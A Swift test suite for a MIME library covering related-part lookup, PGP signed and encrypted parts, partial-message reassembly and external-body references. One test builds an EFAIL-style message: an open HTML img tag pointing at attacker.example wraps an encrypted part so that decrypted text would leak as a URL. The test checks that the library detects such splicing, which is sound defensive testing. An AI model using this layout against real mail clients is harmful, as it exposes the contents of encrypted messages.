import MIME
import Testing

private func octets(_ lines: [String]) -> [UInt8] { Array((lines.joined(separator: "\r\n") + "\r\n").utf8) }

private func parse(_ octets: [UInt8]) -> MessagePart {
    var parser = StructureParser()
    octets.withUnsafeBytes { parser.feed($0) }
    return parser.finish()
}

private func text(_ octets: some Sequence<UInt8>) -> String { String(decoding: Array(octets), as: UTF8.self) }

@Suite struct RelatedPartTests {
    private static let message = octets([
        "Content-Type: multipart/related; boundary=b; type=\"text/html\"; start=\"<page@x>\"",
        "Content-Location: http://www.ietf.example/dir/", "", "--b", "Content-Type: image/gif", "Content-ID: <one%1@x>",
        "Content-Location: images/ietflogo1.gif", "", "gif", "--b", "Content-Type: text/html", "Content-ID: <page@x>",
        "",
        "<img src=\"cid:one%251@x\">", "--b", "Content-Type: image/png", "Content-Location: http://other.example/a",
        " b.png", "", "png", "--b--",
    ])

    @Test func theRootIsTheOneThatStartNames() {
        let root = parse(Self.message)
        #expect(root.relatedRoot?.content.type.value == Array("text/html".utf8))
        #expect(root.children[0].relatedRoot == nil)
        let other = text(Self.message).replacing("start=\"<page@x>\"", with: "start=\"<none@x>\"")
        #expect(parse(Array(other.utf8)).relatedRoot?.content.type.value == Array("image/gif".utf8))
    }

    @Test(
        arguments: [
            ("cid:one%251@x", "image/gif"), ("CID:page@x", "text/html"), ("images/ietflogo1.gif", "image/gif"),
            ("http://www.ietf.example/dir/images/ietflogo1.gif", "image/gif"),
            ("/dir/images/ietflogo1.gif", "image/gif"),
            ("./x/../images/ietflogo1.gif", "image/gif"), ("//www.ietf.example/dir/images/ietflogo1.gif", "image/gif"),
            ("http://other.example/ab.png", "image/png"), ("http://other.example/a\r\n b.png", "image/png"),
            ("cid:none@x", nil), ("ietflogo1.gif", nil), ("", nil), ("cid:", nil),
        ] as [(String, String?)]
    ) func partsAreFound(reference: String, type: String?) {
        let found = parse(Self.message).part(referredBy: Array(reference.utf8))
        #expect(found.map { text($0.content.type.value) } == type)
    }
}

@Suite struct SecuredPartTests {
    /// RFC 3156 §5.
    private static let signed = octets([
        "From: Michael Elkins <elkins@aero.org>", "Mime-Version: 1.0",
        "Content-Type: multipart/signed; boundary=bar; micalg=pgp-md5;", "  protocol=\"application/pgp-signature\"", "",
        "--bar", "Content-Type: text/plain; charset=iso-8859-1", "Content-Transfer-Encoding: quoted-printable", "",
        "=A1Hola!", "", "--bar", "Content-Type: application/pgp-signature", "", "-----BEGIN PGP MESSAGE-----",
        "--bar--",
    ])

    @Test func whatIsSignedHasItsExactOctets() throws {
        let root = parse(Self.signed)
        let secured = try #require(SecuredPart(root))
        #expect(secured.kind == .signed && secured.protocolName == "application/pgp-signature")
        #expect(secured.micalg == "pgp-md5")
        #expect(
            text(Self.signed[secured.signedRange])
                == "Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=A1Hola!\r\n"
        )
        #expect(secured.control.content.type.value == Array("application/pgp-signature".utf8))
    }

    @Test func encryptedParts() throws {
        let message = octets([
            "Content-Type: multipart/encrypted; boundary=foo; protocol=\"application/pgp-encrypted\"", "", "--foo",
            "Content-Type: application/pgp-encrypted", "", "Version: 1", "", "--foo",
            "Content-Type: application/octet-stream",
            "", "-----BEGIN PGP MESSAGE-----", "--foo--",
        ])
        let root = parse(message)
        let secured = try #require(SecuredPart(root))
        #expect(secured.kind == .encrypted && secured.micalg == nil)
        #expect(secured.content.content.type.value == Array("application/octet-stream".utf8))
        #expect(SecuredPart.splicedParts(of: root).isEmpty)
    }

    @Test(arguments: [
        ("protocol=\"application/pgp-signature\"", "protocol=\"application/other\""),
        ("protocol=\"application/pgp-signature\"", "x=y"), ("--bar--", "--bar\r\n\r\nthird\r\n--bar--"),
        ("--bar\r\nContent-Type: application/pgp", "Content-Type: application/pgp"),
    ]) func brokenOnesAreNone(from: String, to: String) {
        let message = Array(text(Self.signed).replacing(from, with: to).utf8)
        let root = parse(message)
        #expect(SecuredPart(root) == nil)
        var check = MessageCheck()
        message.withUnsafeBytes { check.feed($0) }
        #expect(check.finish().defects.contains(.securedParts))
    }

    /// What EFAIL does: an encrypted part between two that make its plain text part of an address.
    @Test(arguments: [
        ("multipart/encrypted; boundary=i; protocol=\"application/pgp-encrypted\"", true),
        ("application/pkcs7-mime; smime-type=enveloped-data", true),
        ("application/pkcs7-mime; smime-type=signed-data", false),
        ("application/octet-stream", false),
    ]) func encryptedPartsBetweenOthersAreReported(type: String, isSpliced: Bool) {
        let message = octets([
            "From: a@b", "Date: Thu, 1 Jan 2026 00:00:00 +0000", "MIME-Version: 1.0",
            "Content-Type: multipart/mixed; boundary=o", "", "--o", "Content-Type: text/html", "",
            "<img src=\"http://attacker.example/", "--o", "Content-Type: \(type)", "", "--i",
            "Content-Type: application/pgp-encrypted",
            "", "Version: 1", "--i", "Content-Type: application/octet-stream", "", "secret", "--i--", "--o",
            "Content-Type: text/html", "",
            "\">", "--o--",
        ])
        var check = MessageCheck()
        message.withUnsafeBytes { check.feed($0) }
        let root = check.finish()
        #expect(root.children.map { $0.defects.contains(.spliced) } == [false, isSpliced, false])
        // No part's octets are ever in another's.
        #expect(zip(root.children, root.children.dropFirst()).allSatisfy { $0.body.upperBound <= $1.header.lowerBound })
    }
}

@Suite struct PartialMessageTests {
    /// RFC 2046 §5.2.2.2.
    private static let first = octets([
        "X-Weird-Header-1: Foo", "From: Bill@host.com", "To: joe@otherhost.com",
        "Date: Fri, 26 Mar 1993 12:59:38 -0500 (EST)",
        "Subject: Audio mail (part 1 of 2)", "Message-ID: <id1@host.com>", "MIME-Version: 1.0",
        "Content-type: message/partial; id=\"ABC@host.com\";", "              number=1; total=2", "",
        "X-Weird-Header-1: Bar",
        "X-Weird-Header-2: Hello", "Message-ID: <anotherid@foo.com>", "Subject: Audio mail", "MIME-Version: 1.0",
        "Content-type: audio/basic", "Content-transfer-encoding: base64", "",
        "first half of encoded audio data goes here",
    ])
    private static let second = octets([
        "From: Bill@host.com", "To: joe@otherhost.com", "Date: Fri, 26 Mar 1993 12:59:38 -0500 (EST)",
        "Subject: Audio mail (part 2 of 2)", "MIME-Version: 1.0", "Message-ID: <id2@host.com>",
        "Content-type: message/partial;", "              id=\"ABC@host.com\"; number=2; total=2", "",
        "second half of encoded audio data goes here",
    ])

    @Test func piecesAreJoined() throws {
        var assembly = PartialAssembly(mostOctets: 10_000)
        try assembly.add(Self.second)
        #expect(throws: PartialAssembly.Failure.missing([1])) { try assembly.message() }
        try assembly.add(Self.first)
        let expected = octets([
            "X-Weird-Header-1: Foo", "From: Bill@host.com", "To: joe@otherhost.com",
            "Date: Fri, 26 Mar 1993 12:59:38 -0500 (EST)", "Message-ID: <anotherid@foo.com>", "Subject: Audio mail",
            "MIME-Version: 1.0", "Content-type: audio/basic", "Content-transfer-encoding: base64", "",
            "first half of encoded audio data goes here", "second half of encoded audio data goes here",
        ])
        #expect(try text(assembly.message()) == text(expected))
    }

    @Test func piecesThatDoNotFitAreRefused() throws {
        var assembly = PartialAssembly(mostOctets: 1500)
        #expect(throws: PartialAssembly.Failure.missing([])) { try assembly.message() }
        try assembly.add(Self.first)
        #expect(throws: PartialAssembly.Failure.repeated(1)) { try assembly.add(Self.first) }
        #expect(throws: PartialAssembly.Failure.notPartial) { try assembly.add(Array("Subject: x\r\n\r\n".utf8)) }
        let other = Array(text(Self.second).replacing("ABC", with: "DEF").utf8)
        #expect(throws: PartialAssembly.Failure.otherMessage) { try assembly.add(other) }
        #expect(throws: PartialAssembly.Failure.tooLong) { try assembly.add(Self.second + noise(1000, seed: 1)) }
    }

    @Test(arguments: [
        "id=a", "number=1", "id=a; number=0", "id=a; number=3; total=2", "id=a; number=x", "id=a; number=1001",
    ])
    func piecesThatDoNotSayWhich(parameters: String) {
        let message = Array("Content-Type: message/partial; \(parameters)\r\n\r\n".utf8)
        #expect(PartialMessage(parse(message).content) == nil)
        var check = MessageCheck()
        message.withUnsafeBytes { check.feed($0) }
        #expect(check.finish().defects.contains(.invalidPartial))
    }

    /// RFC 2046 §5.2.3.3 and RFC 2017 §3.
    @Test func externalBodiesAreToldAndNotFetched() throws {
        let message = octets([
            "Content-Type: message/external-body; name=\"BodyFormats.ps\"; site=\"thumper.bellcore.com\"; mode=\"image\";",
            " access-type=ANON-FTP; directory=\"pub\"", "", "Content-type: application/postscript",
            "Content-ID: <id42@guppylake.bellcore.com>", "", "",
        ])
        let root = parse(message)
        let external = try #require(ExternalBody(root.content, body: Array(message[root.body])))
        #expect(
            external.accessType == "anon-ftp" && external["directory"] == "pub" && external["name"] == "BodyFormats.ps"
        )
        #expect(external.content.type.value == Array("application/postscript".utf8))
        #expect(external.content.identifier == Array("<id42@guppylake.bellcore.com>".utf8))
        let url = ParameterizedValue(
            field: Array(
                "message/external-body; access-type=URL; URL*0=\"ftp://\"; URL*1=\"cs.utk.edu/pub/moore/bulk-mailer\""
                    .utf8
            )
        )
        var content = ContentFields()
        content.type = url
        #expect(ExternalBody(content, body: [])?.url == "ftp://cs.utk.edu/pub/moore/bulk-mailer")
        #expect(ExternalBody(ContentFields(), body: []) == nil)
    }
}
